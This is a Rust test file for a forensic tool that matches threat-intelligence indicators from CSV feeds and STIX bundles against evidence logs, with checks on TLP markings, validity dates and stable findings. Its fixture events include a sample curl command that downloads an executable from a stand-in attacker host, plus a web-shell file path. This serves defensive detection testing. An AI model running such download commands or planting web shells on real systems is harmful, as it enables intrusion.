//! Known indicators: what was seen of them, and what was not looked for.
//!
//! In: small evidence and files of indicators as partners send them. Out: sightings with their source, marking and dates, the
//! same over the lake as with the evidence, and findings whose numbers stay.

use std::fs;

use serde_json::{Value, json};

use crate::events::{lines, ordinary, three, web_shell, with};
use crate::scratch::{CASE, Scratch, same_files, text};

const SHA256: &str = "b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c";

/// Five events: a connection, a name, a file, a hash; and one that only looks alike.
fn evidence() -> Vec<u8> {
    let field = |number: u32, name: &str, value: &str| {
        with(with(ordinary(number), name, json!(value)), "RecordNumber", json!(number))
    };
    let connection = with(field(1, "DestinationIp", "203.0.113.7"), "DestinationPort", json!("443"));
    lines([
        connection,
        field(2, "CommandLine", "curl https://cdn.Evil.example/a.php?x=1 -o C:\\Temp\\a.exe"),
        field(3, "TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\Ohyeah.aspx"),
        field(4, "Hashes", &format!("MD5=0123,SHA256={}", SHA256.to_uppercase())),
        field(5, "CommandLine", "ping 1203.0.113.70 notevil.example; type C:\\x\\not_ohyeah.aspx"),
    ])
}

const FEED: &str = "indicator,type,tlp,valid_from,valid_until,description\n\
    203[.]0[.]113[.]7,ip,TLP:AMBER,2019-01-01,2019-02-01,C2 of last year\n\
    evil[.]example,domain,TLP:GREEN,,,\n\
    evil.example,domain,,,,again\n\
    192.168.1.1,ip,,,,\n\
    google.com,domain,,,,\n\
    198.51.100.9,ip,,,,never seen\n\
    what is this,,,,,\n";

fn stix() -> String {
    let indicator = |number: u32, pattern: String| {
        json!({"type": "indicator", "id": format!("indicator--{number}"), "pattern": pattern, "pattern_type": "stix",
               "valid_from": "2021-03-02T00:00:00Z", "confidence": 90,
               "object_marking_refs": ["marking-definition--5e57c739-391a-4eb3-b6be-7d15ca92d5ed"]})
    };
    let objects = [
        indicator(1, format!("[file:hashes.'SHA-256' = '{SHA256}']")),
        indicator(2, "[file:name = 'ohyeah.aspx'] FOLLOWEDBY [process:name = 'a.exe']".into()),
        indicator(
            3,
            "[network-traffic:dst_ref.value = '203.0.113.7' AND network-traffic:dst_port = 8443]".into(),
        ),
        indicator(4, "[file:name LIKE 'ohy%.aspx']".into()),
    ];
    json!({"type": "bundle", "id": "bundle--1", "objects": objects}).to_string()
}

fn case() -> Scratch {
    let scratch = Scratch::new();
    scratch.write("a.jsonl", evidence());
    scratch.write("feed.csv", FEED);
    scratch.write("bundle.json", stix());
    scratch
}

fn sightings(scratch: &Scratch, more: &[&str]) -> crate::scratch::Run {
    scratch.piste(&[&["sightings", "--case", CASE, "--at", "2021-03-28T09:00:00Z"], more].concat())
}

#[test]
fn what_was_seen_is_told_with_source_marking_and_dates() {
    let scratch = case();
    scratch.investigate("a.jsonl --indicators feed.csv --indicators bundle.json --quiet").expect(0);
    let shown = sightings(&scratch, &[]).expect(0);
    insta::assert_snapshot!(shown.out);
    assert!(shown.err.contains("4 indicators seen"), "{}", shown.err);
    let seen: Vec<Value> = scratch.lines("sightings.jsonl");
    let json = sightings(&scratch, &["--json"]).expect(0).out;
    let printed: Vec<Value> = json.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(printed, seen);
    let address = seen.iter().find(|one| text(one, "indicator") == "203.0.113.7").expect("seen");
    assert_eq!(address["outside_validity"], json!(1), "flagged, not hidden");
    assert!(!seen.iter().any(|one| text(one, "indicator").contains("8443")), "another port contradicts");
    assert_eq!(scratch.summary()["sightings"], json!(4));
    let schema = scratch.piste(&["schema", "sightings"]).expect(0).out;
    let schema: Value = serde_json::from_str(&schema).expect("JSON");
    for (at, one) in seen.iter().enumerate() {
        let faults = crate::schema_check::faults(&schema, one, &format!("sightings.jsonl:{}", at + 1));
        assert!(faults.is_empty(), "{faults:?}");
    }
}

#[test]
fn what_is_not_looked_for_is_an_issue_with_its_line() {
    let scratch = case();
    scratch.investigate("a.jsonl --indicators feed.csv --indicators bundle.json").expect(0);
    let issues: Vec<String> = scratch
        .lines("issues.jsonl")
        .iter()
        .map(|one| format!("{} {}: {}", text(one, "slug"), text(one, "path"), text(one, "what")))
        .collect();
    insta::assert_snapshot!(issues.join("\n"));
    let checked = scratch.piste(&["indicators", "check", "feed.csv", "bundle.json", "--list"]).expect(0);
    insta::assert_snapshot!(checked.out);
    scratch.piste(&["indicators", "check", "feed.csv", "--strict", "--json"]).expect(2);
    scratch.write("none.txt", "???\n!!!\n");
    let none = scratch.investigate_in("other", "a.jsonl --indicators none.txt").expect(2);
    assert!(none.err.contains("no indicator of `none.txt` is understood; none.txt:1: `???`"), "{}", none.err);
    assert!(!scratch.path("other").exists(), "a wrong file costs nothing");
    let gone = scratch.investigate_in("other", "a.jsonl --indicators nowhere.csv").expect(2);
    assert!(gone.err.contains("indicators-missing"), "{}", gone.err);
}

#[test]
fn over_the_lake_it_is_the_same_and_needs_no_evidence() {
    let scratch = case();
    scratch.investigate_in("at-once", "a.jsonl --indicators feed.csv --indicators bundle.json").expect(0);
    scratch.investigate("a.jsonl").expect(0);
    assert_eq!(scratch.summary()["sightings"], Value::Null, "none were given");
    let before = sightings(&scratch, &[]).expect(2);
    assert!(before.err.contains("no run of this case was given indicators"), "{}", before.err);
    fs::remove_file(scratch.path("a.jsonl")).expect("the evidence goes away");
    let run = sightings(&scratch, &["--indicators", "feed.csv", "--threads", "1"]).expect(0);
    assert!(run.err.contains("Held 5 rows"), "{}", run.err);
    // They add up, and the case keeps its own copy.
    fs::remove_file(scratch.path("feed.csv")).expect("the stick is unplugged");
    sightings(&scratch, &["--indicators", "bundle.json"]).expect(0);
    let out = |case: &str| scratch.path(case).join("out");
    for name in ["sightings.jsonl", "issues.jsonl"] {
        let read = |case: &str| fs::read_to_string(out(case).join(name)).expect("it is there");
        assert_eq!(read(CASE), read("at-once"), "{name}");
    }
    let keys = |case: &str| {
        let mut keys: Vec<String> =
            scratch.lines_in(case, "findings.jsonl").iter().map(|one| text(one, "key")).collect();
        keys.sort();
        keys
    };
    assert_eq!(keys(CASE), keys("at-once"));
    sightings(&scratch, &["--no-earlier-indicators"]).expect(2);
    assert!(!out(CASE).join("sightings.jsonl").exists(), "what an earlier run saw does not stay");
    assert!(scratch.lines("findings.jsonl").iter().all(|one| one["kind"] != "sighting"));
}

#[test]
fn a_sighting_is_a_finding_whose_number_stays() {
    let scratch = case();
    scratch.investigate("a.jsonl --indicators feed.csv").expect(0);
    let numbers = || {
        let all = scratch.lines("findings.jsonl");
        let of_kind: Vec<(String, String, Value)> = all
            .iter()
            .filter(|one| one["kind"] == "sighting")
            .map(|one| (text(one, "title"), text(one, "id"), one["new"].clone()))
            .collect();
        of_kind
    };
    let first = numbers();
    assert_eq!(first.len(), 2, "{first:?}");
    assert!(
        first.iter().any(|(title, _, _)| title == "Known indicator seen: ipv4-addr 203.0.113.7"),
        "{first:?}"
    );
    let open = scratch.piste(&["findings", &first[0].1, "--case", CASE]).expect(0);
    assert!(open.out.contains("piste show E-1:"), "{}", open.out);
    // A later run over more evidence looks for them again, without being told, and marks what is new.
    scratch.write("b.jsonl", lines([with(ordinary(9), "DestinationIp", json!("203.0.113.7"))]));
    scratch.investigate("b.jsonl").expect(0);
    let second = numbers();
    let named = |all: &[(String, String, Value)], what: &str| {
        all.iter()
            .find(|(title, _, _)| title.contains(what))
            .cloned()
            .unwrap_or_else(|| panic!("{what}: {all:?}"))
    };
    assert_eq!(named(&second, "203.0.113.7").1, named(&first, "203.0.113.7").1);
    assert_eq!(named(&second, "203.0.113.7").2, json!("rows"));
    assert_eq!(named(&second, "evil.example").2, Value::Null);
    let ledger = fs::read_to_string(scratch.path("case/ledger.jsonl")).expect("there is a ledger");
    let starts: Vec<Value> = ledger
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).expect("JSON"))
        .filter(|entry| entry["kind"] == "run.started")
        .collect();
    assert_eq!(starts[1]["body"]["indicators"], starts[0]["body"]["indicators"]);
    assert_eq!(starts[0]["body"]["indicators"][0]["name"], json!("feed.csv"));
    scratch.piste(&["ledger", "verify", "--case", CASE]).expect(0);
}

#[test]
fn a_sealed_file_is_known_by_its_hashes() {
    let scratch = Scratch::new();
    scratch.write("a.jsonl", three(1));
    scratch.write("tool.bin", b"\x7fELF not really");
    scratch.investigate("a.jsonl tool.bin").expect(0);
    let sha256 = text(&scratch.evidence()["tool.bin"], "sha256");
    scratch.write("sha256.txt", format!("{sha256}\n"));
    scratch.investigate("a.jsonl tool.bin --indicators sha256.txt").expect(0);
    let seen = scratch.lines("sightings.jsonl");
    assert_eq!((seen.len(), &seen[0]["count"], &seen[0]["first"]), (1, &json!(1), &Value::Null));
    assert_eq!(seen[0]["rows"][0]["path"], "tool.bin");
    assert_eq!(
        text(&scratch.evidence()["tool.bin"], "md5").len(),
        32,
        "a file that is no log has them always"
    );
    assert_eq!(scratch.evidence()["a.jsonl"].get("md5"), None, "nobody asked for it");
    // Of logs MD5 and SHA-1 are made only where such indicators are given, while the evidence is read.
    scratch.write("older.txt", "0123456789abcdef0123456789abcdef\n");
    scratch.investigate_in("older", "a.jsonl tool.bin --indicators older.txt").expect(0);
    let md5 = scratch
        .lines_in("older", "evidence.jsonl")
        .iter()
        .find(|one| one["path"] == "a.jsonl")
        .map(|one| text(one, "md5"))
        .expect("it was asked for");
    scratch.write("found.txt", format!("{md5}\n"));
    let run = scratch.piste(&["sightings", "--case", "older", "--indicators", "found.txt"]).expect(0);
    assert!(run.out.contains(&md5) && run.out.contains("(file)"), "{}", run.out);
}

#[test]
fn equal_runs_write_equal_bytes_whatever_the_threads() {
    let scratch = case();
    for n in 0..30 {
        let mut event = with(web_shell(n), "DestinationIp", json!("203.0.113.7"));
        event = with(event, "RecordNumber", json!(n));
        scratch.write(&format!("more/{n}.jsonl"), lines([event]));
    }
    scratch.investigate_in("one", "more a.jsonl --indicators feed.csv --threads 1").expect(0);
    scratch.investigate_in("two", "more a.jsonl --indicators feed.csv --threads 2").expect(0);
    same_files(&scratch.path("one/out"), &scratch.path("two/out"));
    let seen = scratch.lines_in("one", "sightings.jsonl");
    let address = seen.iter().find(|one| text(one, "indicator") == "203.0.113.7").expect("seen");
    assert_eq!((&address["count"], address["rows"].as_array().map(Vec::len)), (&json!(31), Some(20)));
}

#[test]
fn a_package_says_that_what_it_holds_is_marked_more_strictly() {
    let scratch = case();
    scratch.investigate("a.jsonl --indicators bundle.json").expect(0);
    let export = |tlp: &str| {
        scratch.piste(&["case", "export", "--case", CASE, "-o", "p.zip", "--by", "Ann Peeters", "--tlp", tlp])
    };
    let run = export("AMBER").expect(0);
    assert!(
        run.err.contains("indicators marked TLP:RED, which is stricter than its own TLP:AMBER"),
        "{}",
        run.err
    );
    assert!(!export("RED").expect(0).err.contains("warning"), "nothing is stricter than red");
    let shown = scratch.piste(&["ledger", "show", "--case", CASE]).expect(0);
    assert!(shown.out.contains("reading"), "{}", shown.out);
}
